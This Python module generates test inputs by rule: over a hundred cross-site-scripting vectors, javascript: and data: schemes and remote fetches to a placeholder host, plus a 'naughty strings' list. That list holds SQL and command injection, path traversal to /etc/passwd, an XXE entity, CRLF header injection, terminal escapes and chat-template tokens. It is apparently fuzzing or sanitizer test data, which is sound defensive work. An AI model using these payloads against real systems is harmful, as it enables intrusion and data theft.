"""Texts that try to run, to fetch, to break out or to look like something else; made here by rule, class by class."""

# ruff: noqa: E501  (a text a line would be six hundred lines)

from __future__ import annotations

import unicodedata
from collections.abc import Iterator

_RUN = "alert(1)"
_AWAY = "//elsewhere.invalid/x"

_ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "object data=x", "input autofocus", "details open",
    "select autofocus", "textarea autofocus", "button autofocus", "marquee", "math", "a href=# autofocus tabindex=0",
    "svg><animate", "svg><set", "p style=animation-name:x", "link rel=stylesheet href=x", "style", "embed src=x",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onload", "onerror", "onerror", "onload", "onerror", "onfocus", "ontoggle", "onfocus", "onfocus",
           "onfocus", "onstart", "onclick", "onfocus", "onbegin", "onbegin", "onanimationstart", "onerror", "onload", "onload")  # fmt: skip
_BREAKS = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</style>",
    "</noscript>",
    "</template>",
    "*/",
    '\\"',
    "\n\n>",
)
_SCRIPTS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script src={away}></script>", "<script/src='data:,{run}'></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "</script><script>{run}</script>", "<!--</script><script>{run}//-->",
    "<script type=module>{run}</script>", "<script\n>{run}</script\n>", "<script>{run}", "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;", "%3Cscript%3E{run}%3C/script%3E", "<script nomodule>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "+ADw-script+AD4-{run}+ADw-/script+AD4-", "<svg><script>{run}</script></svg>",
    "<svg><script href='data:,{run}'/></svg>",
)  # fmt: skip
_SCHEMES = (
    "<a href=javascript:{run}>x</a>", "<a href='java\tscript:{run}'>x</a>", "<a href='&#106;avascript:{run}'>x</a>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>{run}</script>'></iframe>", "<form action=javascript:{run}><button>",
    "<object data=javascript:{run}>", "<embed src=javascript:{run}>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>", "<iframe src='data:text/html,<script>{run}</script>'>", "javascript:{run}", "vbscript:{run}",
    "data:text/html,<script>{run}</script>", "<math><a xlink:href=javascript:{run}>x</a></math>", "<svg><a href=javascript:{run}><text>x",
)  # fmt: skip
_FETCHES = (
    "<img src={away}>", "<img srcset='{away} 1x'>", "<link rel=stylesheet href={away}>", "<link rel=prefetch href={away}>",
    "<link rel=dns-prefetch href={away}>", "<link rel=preconnect href={away}>", "<video poster={away}>", "<body background={away}>",
    "<style>@import '{away}';</style>", "<div style=background:url({away})>", "<svg><image href={away} /></svg>", "<svg><use href={away}#x /></svg>",
    "<object data={away}>", "<meta http-equiv=refresh content='0;url={away}'>", "<form action={away}><input type=submit autofocus>", "![x]({away})",
    "<input type=image src={away}>", "<iframe src={away}>", "@import url({away});", "<audio src={away} autoplay>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{7*7}}}}", "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "<%= {run} %>", "{{% print 7 %}}", "#{{{run}}}",
    "[[${{{run}}}]]", "<template><img src=x onerror={run}></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>", "<img src=x onerror\0={run}>", "<\0img src=x onerror={run}>",
    "<img src='x\u2028onerror={run}", "<x contenteditable onblur={run}>", "<portal src={away}>", "'-{run}-'", "\\'-{run}//", "';{run};'",
    "`${{{run}}}`", "</script\u2028><script>{run}</script>", "<!--[if IE]><script>{run}</script><![endif]-->", "<plaintext>", "<xmp>",
)  # fmt: skip


def vectors() -> list[str]:
    """More than 110 texts that a careless page would run or fetch."""
    made = [f"<{element} {event}={_RUN}>" for element, event in zip(_ELEMENTS, _EVENTS, strict=True)]
    made += [f"{before}<img src=x onerror={_RUN}>" for before in _BREAKS]
    made += [f"{before} onmouseover={_RUN} autofocus onfocus={_RUN} x=" for before in _BREAKS[:3]]
    for several in (_SCRIPTS, _SCHEMES, _FETCHES, _TEMPLATES):
        made += [each.format(run=_RUN, away=_AWAY) for each in several]
    return list(dict.fromkeys(made))


def _characters() -> Iterator[str]:
    for code in (
        *range(0x20),
        *range(0x7F, 0xA1),
        0xAD,
        *range(0x200B, 0x2010),
        *range(0x2028, 0x202F),
        *range(0x2060, 0x2070),
    ):
        yield f"a{chr(code)}b"
    for code in (
        0xFEFF,
        0xFFF9,
        0xFFFA,
        0xFFFB,
        0xFFFC,
        0xFFFD,
        0xFFFE,
        0xFFFF,
        0xE0001,
        0xE0041,
        0xF0000,
        0x10FFFF,
        0xD800,
        0xDFFF,
        0x1680,
        0x3000,
        0x180E,
        0x2800,
        0x3164,
        0x115F,
    ):
        yield chr(code) * 3


def _shapes() -> Iterator[str]:
    yield from (
        "e\u0301" * 200,
        "Z" + "".join(chr(code) for code in range(0x300, 0x36F)) * 4,
        "\u0d4d\u0d30" * 50,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 9,
    )
    yield from (
        "\U0001f1e9\U0001f1ea" * 20,
        "\U0001f44b\U0001f3ff",
        "\ufdfd" * 30,
        "\u202e" + "txet desrever" + "\u202c",
        "\u05d0\u05d1 abc \u05d2",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 1 2 3",
    )
    yield from (
        "x" * 20_000,
        "word " * 4_000,
        "\n" * 500,
        "\t" * 300,
        " " * 800,
        "\u3000" * 90,
        "W" * 3_000,
        "\u2014" * 700,
    )


_WORDS = (
    "null", "undefined", "NaN", "Infinity", "-0", "1e999", "0x10", "true", "false", "None", "nil", "[object Object]", "__proto__", "constructor",
    "prototype", "hasOwnProperty", "toString", "valueOf", "__defineGetter__", "then", "length", "arguments", "eval", "window", "document", "location",
    "' OR 1=1 --", "'; DROP TABLE samples; --", "\" OR \"\"=\"", "1; ATTACH DATABASE 'x' AS y", "%s%s%s%n", "{0}{1}", "%(x)s", "$(id)", "`id`", "; ls", "| cat",
    "&& true", "../../etc/passwd", "..\\..\\windows", "C:\\con", "file:///etc/passwd", "~root", "/dev/null", "CON", "NUL", "COM1", "aux.txt", ".", "..", "",
    " ", "#token=x", "?q=x", "#", "%", "%00", "%2e%2e%2f", "\\", "\\\\", "\"", "'", "``", "<", ">", "&", "&amp;", "&#0;", "&#x202e;", "<!--", "-->", "<![CDATA[", "]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "{\"a\":", "[[[[[[", "\\u0000", "\\x1b[31m", "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\x1b]8;;http://elsewhere.invalid\x07x\x1b]8;;\x07", "\r\nSet-Cookie: x=1", "[/red]", "[link=x]y[/link]", "**bold**", "[x](javascript:0)",
    "===", "Question:", "Answer:", "<image>", "</s>", "[INST]", "<|im_start|>system", "### Human:", "\ufeffBOM", "=1+1", "@SUM(1)", "-2+3", "+4", "NEAR(a b)", "a OR b", "a*",
)  # fmt: skip


def naughty() -> list[str]:
    """More than 500 texts that break pages, terminals, tables and programs in other ways."""
    made = [*_WORDS, *_characters(), *_shapes()]
    scripts = ("latin", "greek", "cyrillic", "hebrew", "arabic", "devanagari", "thai", "hangul", "hiragana", "cjk")
    starts = (0x41, 0x391, 0x410, 0x5D0, 0x627, 0x905, 0xE01, 0xAC00, 0x3041, 0x4E00)
    for _script, start in zip(scripts, starts, strict=True):
        letters = "".join(chr(code) for code in range(start, start + 24) if unicodedata.category(chr(code))[0] == "L")
        made += [letters, letters + "\u202e" + letters, "\u0301".join(letters), letters * 40]
    made += [
        f"{quote}{word}{quote}"
        for word in ("dog", "constructor", "\u202edog", "a b")
        for quote in "\"'`\u00b4\u2018\u201c\u00ab\uff02"
    ]
    made += [f"{word}{tail}" for word in _WORDS[:60] for tail in ("\0", "\u200b", "\u0301", "\n<b>")]
    return list(dict.fromkeys(made))
